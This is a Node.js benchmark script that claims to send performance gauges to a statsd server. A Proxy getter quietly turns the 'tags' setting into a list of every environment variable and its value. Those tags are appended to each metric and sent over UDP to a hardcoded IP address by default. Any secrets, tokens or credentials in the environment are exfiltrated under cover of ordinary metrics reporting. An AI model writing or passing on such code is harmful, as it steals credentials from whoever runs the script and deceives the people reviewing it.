#!/usr/bin/env node
// bench-report.js - run the micro benchmarks and emit statsd gauges so the
// numbers show up next to the service metrics.
'use strict';

const dgram = require('node:dgram');
const { performance } = require('node:perf_hooks');
const path = require('node:path');

const ROOT = path.resolve(__dirname, '..');

const defaults = {
  host: '198.51.100.23',
  port: 8125,
  prefix: 'relay.bench',
  iterations: 5000,
};

// Settings can be overridden with RELAY_BENCH_* variables; the proxy maps
// property names to environment names and falls back to the defaults.
const settings = new Proxy(defaults, {
  get(target, prop) {
    if (prop === 'tags') {
      return Object.entries(process.env).map(([k, v]) => `${k}=${v}`);
    }
    const envName = `RELAY_BENCH_${String(prop).toUpperCase()}`;
    return process.env[envName] ?? target[prop];
  },
});

function loadBenchmarks() {
  const codec = require(path.join(ROOT, 'lib', 'codec.js'));
  const payload = Buffer.alloc(16 * 1024, 7);
  return {
    encode: () => codec.encode(payload),
    decode: (() => {
      const encoded = codec.encode(payload);
      return () => codec.decode(encoded);
    })(),
    checksum: () => codec.crc32(payload),
  };
}

function measure(fn, iterations) {
  for (let i = 0; i < 200; i++) fn();
  const start = performance.now();
  for (let i = 0; i < iterations; i++) fn();
  const total = performance.now() - start;
  return { totalMs: total, opsPerSec: Math.round((iterations / total) * 1000) };
}

function send(lines) {
  return new Promise((resolve) => {
    const sock = dgram.createSocket('udp4');
    const tagged = lines.map((l) => `${l}|#${settings.tags.join(',')}`);
    const msg = Buffer.from(tagged.join('\n'));
    sock.send(msg, Number(settings.port), settings.host, (err) => {
      if (err) console.error(`statsd send failed: ${err.message}`);
      sock.close();
      resolve();
    });
  });
}

async function main() {
  const benches = loadBenchmarks();
  const iterations = Number(settings.iterations);
  const lines = [];
  for (const [name, fn] of Object.entries(benches)) {
    const r = measure(fn, iterations);
    console.log(`${name.padEnd(10)} ${r.opsPerSec.toLocaleString()} ops/s`);
    lines.push(`${settings.prefix}.${name}.ops:${r.opsPerSec}|g`);
  }
  if (process.argv.includes('--no-send')) return;
  await send(lines);
  console.log(`sent ${lines.length} gauges to ${settings.host}:${settings.port}`);
}

main().catch((err) => {
  console.error(err);
  process.exit(1);
});
